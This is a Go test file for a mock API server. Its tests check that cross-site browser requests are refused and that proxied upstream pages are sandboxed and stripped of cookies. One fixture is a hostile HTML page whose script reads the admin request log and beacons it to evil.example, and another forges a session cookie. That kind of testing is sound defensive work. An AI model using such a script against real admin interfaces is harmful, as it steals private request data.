package mockserver_test

import (
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/benjiconnect/benji/mockserver"
)

// A browser's cross-site request to the API (Sec-Fetch-Site, else Origin
// against Host, as http.CrossOriginProtection judges) is refused with 403
// cross_origin before anything else, in both modes: in proxy mode it never
// reaches the upstream. A partner's server sends neither header and passes.
func TestTheAPIRefusesBrowsersCrossSiteRequests(t *testing.T) {
	tests := []struct {
		name   string
		header []string // header pairs; {{host}} is the mock's host:port
		// form sends the body as a page's form may, text/plain, without a
		// token: proxy mode forwards what breaks the contract.
		form    bool
		refused bool
	}{
		{name: "Sec-Fetch-Site cross-site", header: []string{"Sec-Fetch-Site", "cross-site"}, refused: true},
		{name: "Sec-Fetch-Site cross-site, a text/plain form", header: []string{"Sec-Fetch-Site", "cross-site"}, form: true, refused: true},
		{name: "Sec-Fetch-Site same-site", header: []string{"Sec-Fetch-Site", "same-site"}, refused: true},
		{name: "Sec-Fetch-Site same-origin", header: []string{"Sec-Fetch-Site", "same-origin"}},
		{name: "Sec-Fetch-Site none (typed by the user)", header: []string{"Sec-Fetch-Site", "none"}},
		{name: "Sec-Fetch-Site same-origin wins over a foreign Origin", header: []string{"Sec-Fetch-Site", "same-origin", "Origin", "https://evil.example"}},
		{name: "Origin of another site", header: []string{"Origin", "https://evil.example"}, refused: true},
		{name: "Origin of another site, a text/plain form", header: []string{"Origin", "https://evil.example"}, form: true, refused: true},
		{name: "Origin of another port", header: []string{"Origin", "http://127.0.0.1:1"}, refused: true},
		{name: "Origin the mock's own", header: []string{"Origin", "http://{{host}}"}},
		{name: "neither (a partner's server, curl)"},
	}
	for _, mode := range []string{"proxy", "mock"} {
		t.Run(mode, func(t *testing.T) {
			for _, tt := range tests {
				t.Run(tt.name, func(t *testing.T) {
					up := startUpstream(t, false, answers(200, `{"code":"ok","data":{"token":"`+upstreamToken+`"}}`))
					var ts *mockserver.TestServer
					if mode == "proxy" {
						ts, _, _ = startProxy(t, up.URL)
					} else {
						ts = mockserver.NewTestServer(t)
					}
					host := strings.TrimPrefix(ts.URL, "http://")
					header := slices.Clone(tt.header)
					for i := range header {
						header[i] = strings.ReplaceAll(header[i], "{{host}}", host)
					}
					var got answer
					if tt.form {
						got = request(t, http.MethodPost, ts.URL+createPath, seedTransfer, append([]string{"Content-Type", "text/plain"}, header...)...)
					} else {
						got = create(t, ts, seedTransfer, header...)
					}
					reqs, _ := up.seen()
					e := onlyEntry(t, ts)
					if !tt.refused {
						if got.status == http.StatusForbidden || (mode == "proxy") != (len(reqs) == 1) {
							t.Fatalf("got %d with %d requests upstream; want it answered as usual", got.status, len(reqs))
						}
						return
					}
					if got.status != http.StatusForbidden || len(reqs) != 0 {
						t.Fatalf("got %d with %d requests upstream; want 403 and none forwarded", got.status, len(reqs))
					}
					if env := got.envelope(t); env.Code != mockserver.OutcomeCrossOrigin {
						t.Errorf("code %q, want %q", env.Code, mockserver.OutcomeCrossOrigin)
					}
					if got.header.Get(mockserver.ContractHeader) == "" || got.header.Get("X-Request-Id") == "" {
						t.Errorf("the refusal lacks the mock's headers: %v", got.header)
					}
					if e.Status != http.StatusForbidden || e.Outcome != mockserver.OutcomeCrossOrigin || e.Upstream != nil || e.WouldRefuse != "" {
						t.Errorf("entry: %d %q upstream %+v would_refuse %q; want 403 cross_origin, never forwarded", e.Status, e.Outcome, e.Upstream, e.WouldRefuse)
					}
					if list := request(t, http.MethodGet, ts.URL+"/__mock/requests?outcome="+mockserver.OutcomeCrossOrigin, ""); list.status != http.StatusOK || !strings.Contains(string(list.body), e.RequestID) {
						t.Errorf("the admin API's outcome filter: %d %s; want the entry", list.status, cutForLog(string(list.body)))
					}
				})
			}
		})
	}
}

// No upstream page runs on the mock's origin, where the inspector and the
// admin API live: every proxied answer says nosniff and carries a sandbox
// CSP beside the upstream's own, and no upstream cookie is passed back.
func TestProxiedAnswersCannotActOnTheMocksOrigin(t *testing.T) {
	const page = `<html><script>fetch("/__mock/requests").then(r => r.text()).then(t => navigator.sendBeacon("https://evil.example", t))</script></html>`
	up := startUpstream(t, false, func(w http.ResponseWriter, r *http.Request) {
		h := w.Header()
		h.Set("Content-Type", "text/html")
		h.Set("Content-Security-Policy", "script-src 'unsafe-inline'")
		h.Add("Set-Cookie", "benji_mock_session=forged; Path=/__mock")
		h.Add("Set-Cookie", "other=1; Path=/")
		h.Set("X-Upstream", "kept")
		w.WriteHeader(http.StatusOK)
		w.Write([]byte(page))
	})
	ts, _, record := startProxy(t, up.URL)
	for _, status := range []int{200, 500} {
		var got answer
		if status == 200 {
			got = create(t, ts, seedTransfer)
		} else {
			// The mock's own answers are not the upstream's: they keep their
			// headers.
			got = create(t, ts, seedTransfer, "Prefer", "code=500")
			if got.header.Get("Content-Security-Policy") != "" {
				t.Errorf("the mock's own 500 has a CSP %q; want its answer unchanged", got.header.Get("Content-Security-Policy"))
			}
			continue
		}
		if string(got.body) != page || got.header.Get("Content-Type") != "text/html" || got.header.Get("X-Upstream") != "kept" {
			t.Fatalf("got %d %q with Content-Type %q; want the upstream's page as sent", got.status, cutForLog(string(got.body)), got.header.Get("Content-Type"))
		}
		if got.header.Get("X-Content-Type-Options") != "nosniff" {
			t.Errorf("X-Content-Type-Options %q, want nosniff", got.header.Get("X-Content-Type-Options"))
		}
		csp := got.header.Values("Content-Security-Policy")
		sandboxed := slices.ContainsFunc(csp, func(p string) bool {
			return slices.Contains(strings.Fields(strings.ReplaceAll(p, ";", " ")), "sandbox")
		})
		if !sandboxed || !slices.Contains(csp, "script-src 'unsafe-inline'") {
			t.Errorf("Content-Security-Policy %q; want the upstream's and one with sandbox", csp)
		}
		if c := got.header.Values("Set-Cookie"); len(c) != 0 {
			t.Errorf("Set-Cookie %q passed back; want none", c)
		}
	}
	// The record keeps what the upstream sent, less its cookies, as before.
	rec := recorded(t, record, 1)
	if len(rec) != 1 || rec[0].Response == nil {
		t.Fatalf("record: %d lines, want 1 with the answer", len(rec))
	}
	if h := rec[0].Response.Header; h.Get("Content-Security-Policy") != "script-src 'unsafe-inline'" || h.Get("X-Content-Type-Options") != "" || h.Get("Set-Cookie") != "" {
		t.Errorf("recorded answer headers %v; want the upstream's own, without Set-Cookie", h)
	}
}

// cutForLog keeps a failure message short.
func cutForLog(s string) string {
	if len(s) > 120 {
		return s[:120] + "…"
	}
	return s
}
